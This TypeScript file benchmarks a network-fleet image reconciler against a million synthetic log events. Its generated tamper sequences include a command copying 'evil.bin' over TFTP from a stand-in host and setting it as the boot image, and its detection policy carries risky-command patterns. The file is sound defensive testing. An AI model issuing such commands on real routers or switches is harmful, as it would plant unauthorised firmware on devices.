/**
 * The reconciler over a large fleet: 10,000 devices, 5,000 of them with an approved upgrade, and 1,000,000
 * events streamed from a generator (config noise, the approved upgrades inside their windows, risky
 * commands, and 0.1 % unauthorized image work forming tamper sequences). Peers: the floor (only generating
 * and iterating the same events), and the memory the same events take when held in an array, which is what
 * a reconciler that first loads the logs would need.
 */
import { once } from 'node:events';
import { createWriteStream, statSync } from 'node:fs';
import { join } from 'node:path';
import { readEvents } from '../src/events/index.js';
import type { Authorization } from '../src/model/authorization.js';
import type { DeviceEvent } from '../src/model/event.js';
import type { RepoModel } from '../src/model/repo.js';
import type { DeviceState, StateFile } from '../src/model/state.js';
import { reconcile } from '../src/reconcile/index.js';
import type { LedgerView } from '../src/reconcile/types.js';
import { syntheticFleet } from '../src/sim/synthetic.js';
import { peakRssMiB, timed, type Benchmark } from './types.js';

const WINDOW = { start: '2026-12-05T01:00:00Z', end: '2026-12-05T05:00:00Z' };
const DAY = Date.parse('2026-12-05T00:00:00Z');

function world(deviceCount: number): { model: RepoModel; ledger: LedgerView; states: StateFile } {
  const { devices, catalog } = syntheticFleet(deviceCount, 'b');
  const model: RepoModel = {
    devices,
    catalog,
    policies: {
      change: { maintenanceWindows: [], freezes: [], maxWindowMinutes: 240, minLeadTimeHours: 48, maxConcurrentPerSite: 2, allowedTransfers: ['scp', 'sftp', 'https'], approvals: { count: 2 }, policyOwners: [], source: { file: 'policies/change.yaml', lines: {} } },
      identities: {
        teams: [],
        people: [{ id: 'akoch', name: 'Anna Koch', accounts: ['akoch'], teams: ['netops'], imageWork: true }],
        automation: [{ id: 'svc-imagegate', accounts: ['svc-imagegate'], teams: ['netops'], imageWork: true }],
        source: { file: 'policies/identities.yaml', lines: {} },
      },
      detection: {
        riskyCommands: [
          { id: 'gdb', pattern: '^gdb\\b', severity: 'critical', description: 'debugger' },
          { id: 'debug', pattern: '^debug\\s', severity: 'medium', description: 'debug beyond routine' },
        ],
        allowedCommands: ['^debug ip packet'],
        correlationHorizonMinutes: 60,
        clockSkewSeconds: 120,
        suppressions: [],
        source: { file: 'policies/detection.yaml', lines: {} },
      },
    },
  };
  const byDevice = new Map<string, Authorization[]>();
  const all: Authorization[] = [];
  devices.forEach((d, i) => {
    if (i % 2 !== 0) return;
    const a: Authorization = {
      device: d.name,
      from: { image: d.image, boot: d.boot ?? null },
      to: { image: d.image, boot: d.boot ?? null },
      window: WINDOW,
      ticket: `CHG${i}`,
      executor: 'svc-imagegate',
      transfer: 'scp',
      commit: i.toString(16).padStart(40, '0'),
      mergedAt: '2026-12-01T10:00:00Z',
      pr: i,
      via: 'merge',
      status: 'active',
    };
    all.push(a);
    byDevice.set(d.name, [a]);
  });
  const states: DeviceState[] = devices.map((d) => {
    const img = catalog.images.find((x) => x.id === d.image);
    return {
      device: d.name,
      platform: d.platform,
      collectedAt: '2026-12-05T08:00:00Z',
      status: 'ok',
      facts: {
        version: { version: img?.version ?? '', image: `flash:${img?.file ?? ''}` },
        ...(d.boot ? { boot: { boot: d.boot.system, ...(d.boot.configRegister ? { configRegister: d.boot.configRegister } : {}) } } : {}),
        ...(img?.sha512 ? { hash: { file: img.file, algorithm: 'sha512' as const, digest: img.sha512 } } : {}),
      },
    };
  });
  return {
    model,
    ledger: { authorizations: all, forDevice: (name) => byDevice.get(name) ?? [] },
    states: { version: 1, kind: 'imagegate-state', generatedAt: '2026-12-05T08:00:00Z', devices: states },
  };
}

function* events(model: RepoModel, count: number): Generator<DeviceEvent> {
  const devices = model.devices.map((d) => ({ name: d.name, host: d.management.host, file: model.catalog.images.find((x) => x.id === d.image)?.file ?? null }));
  const files = ['syslog.log', 'tacacs.acct', 'tftpd.log'];
  // times are drawn from a fixed set, as log lines repeat their seconds: formatting a date per event is not what is measured
  const dayTimes = Array.from({ length: 86_400 }, (_, s) => new Date(DAY + s * 1000).toISOString());
  const windowTimes = Array.from({ length: 200 }, (_, m) => new Date(Date.parse(WINDOW.start) + m * 60_000).toISOString());
  const tamperTimes = [0, 1, 2].map((step) => new Date(DAY + 14 * 3600_000 + step * 240_000).toISOString());
  for (let i = 0; i < count; i++) {
    const devIndex = (i * 7919) % devices.length;
    const dev = devices[devIndex];
    if (!dev) continue;
    const r = i % 1000;
    let ts = dayTimes[(i * 37) % 86_400] ?? '';
    let kind: DeviceEvent['kind'] = 'config-change';
    let actor: string | null = 'akoch';
    let command: string | null = 'interface Gi1/0/1';
    let file: string | null = null;
    let protocol: DeviceEvent['protocol'] = null;
    if (r < 80 && devIndex % 2 === 0) {
      // the approved upgrade's steps inside the window, by the executor
      ts = windowTimes[i % 200] ?? '';
      actor = 'svc-imagegate';
      const step = i % 3;
      kind = step === 0 ? 'transfer' : step === 1 ? 'boot-change' : 'reload';
      file = step === 2 ? null : dev.file;
      protocol = step === 0 ? 'scp' : null;
      command = step === 0 ? 'copy scp://10.0.0.5/image flash:' : step === 1 ? 'boot system flash:image' : 'reload';
    } else if (r < 90) {
      kind = 'risky-command';
      command = r % 2 === 0 ? 'debug ip packet' : 'debug crypto isakmp';
    } else if (r === 999) {
      // unauthorized image work: transfer, boot change and reload a few minutes apart on one device
      actor = 'admin';
      const step = Math.floor(i / 1000) % 3;
      ts = tamperTimes[step] ?? '';
      kind = step === 0 ? 'transfer' : step === 1 ? 'boot-change' : 'reload';
      file = step === 2 ? null : 'evil.bin';
      protocol = step === 0 ? 'tftp' : null;
      command = step === 0 ? 'copy tftp://203.0.113.66/evil.bin flash:' : step === 1 ? 'boot system flash:evil.bin' : 'reload';
    } else if (r > 900) {
      kind = 'other';
      command = 'show version';
    }
    yield {
      ts,
      device: dev.name,
      host: dev.host,
      kind,
      actor,
      command,
      file,
      protocol,
      direction: protocol ? 'download' : null,
      source: { path: files[i % 3] ?? 'syslog.log', line: Math.floor(i / 3) + 1, format: 'syslog' },
      raw: command ?? kind,
      clock: 'synced',
    };
  }
}

export const reconcileBenchmark: Benchmark = {
  name: 'reconcile',
  description: 'reconcile 10,000 devices (5,000 with an approved window) against 1,000,000 streamed events',
  async run({ scale, workDir, log }) {
    const deviceCount = Math.round(10_000 * scale);
    const eventCount = Math.round(1_000_000 * scale);
    const { model, ledger, states } = world(deviceCount);
    const floor = await timed(() => {
      let n = 0;
      for (const _ of events(model, eventCount)) n += 1;
      return n;
    });
    const run = await timed(() => reconcile({ model, ledger, states, events: events(model, eventCount), at: '2026-12-05T20:00:00Z' }));
    const peak = peakRssMiB();
    const byRule = new Map<string, number>();
    for (const f of run.result.findings) byRule.set(f.rule, (byRule.get(f.rule) ?? 0) + 1);
    log(`findings: ${[...byRule].map(([r, n]) => `${r} ${n}`).join(', ')}`);
    // the peer's memory: the same events held at once, as a reconciler that loads the logs first would
    global.gc?.();
    const before = process.memoryUsage().heapUsed;
    const held = [...events(model, eventCount)];
    const heldMiB = Math.round((process.memoryUsage().heapUsed - before) / 2 ** 20);
    log(`held ${held.length} events`);
    const input = `${deviceCount.toLocaleString('en-US')} devices, ${eventCount.toLocaleString('en-US')} events, ${run.result.findings.length} findings`;
    held.length = 0;
    // the whole path a scheduled run takes: NDJSON (as `imagegate events` writes it) parsed by src/events, then judged
    const file = join(workDir, 'events.ndjson');
    const out = createWriteStream(file);
    for (const ev of events(model, eventCount)) if (!out.write(`${JSON.stringify(ev)}\n`)) await once(out, 'drain');
    await new Promise<void>((resolve, reject) => out.end((err?: Error | null) => (err ? reject(err) : resolve())));
    const viaFile = await timed(() => reconcile({ model, ledger, states, events: readEvents([file], { devices: model.devices, detection: model.policies.detection }), at: '2026-12-05T20:00:00Z' }));
    log(`NDJSON path: ${viaFile.result.findings.length} findings in ${viaFile.seconds.toFixed(2)} s`);
    return [
      {
        name: 'reconcile',
        input,
        metric: 'time',
        value: Math.round(run.seconds * 100) / 100,
        unit: 's',
        target: { text: '< 10 s', met: run.seconds < 10 },
        peer: { name: 'generating and iterating the events alone', value: Math.round(floor.seconds * 100) / 100, unit: 's' },
      },
      {
        name: 'reconcile',
        input,
        metric: 'peak memory (RSS)',
        value: peak,
        unit: 'MiB',
        target: { text: '< 1 GB', met: peak < 1024 },
        peer: { name: 'the same events held in an array (heap)', value: heldMiB, unit: 'MiB' },
      },
      {
        name: 'reconcile (from NDJSON)',
        input: `${input}, ${Math.round(statSync(file).size / 2 ** 20)} MiB NDJSON`,
        metric: 'time, reading included',
        value: Math.round(viaFile.seconds * 100) / 100,
        unit: 's',
        target: { text: '< 10 s', met: viaFile.seconds < 10 },
        peer: { name: 'the engine alone on the same events (above)', value: Math.round(run.seconds * 100) / 100, unit: 's' },
      },
    ];
  },
};
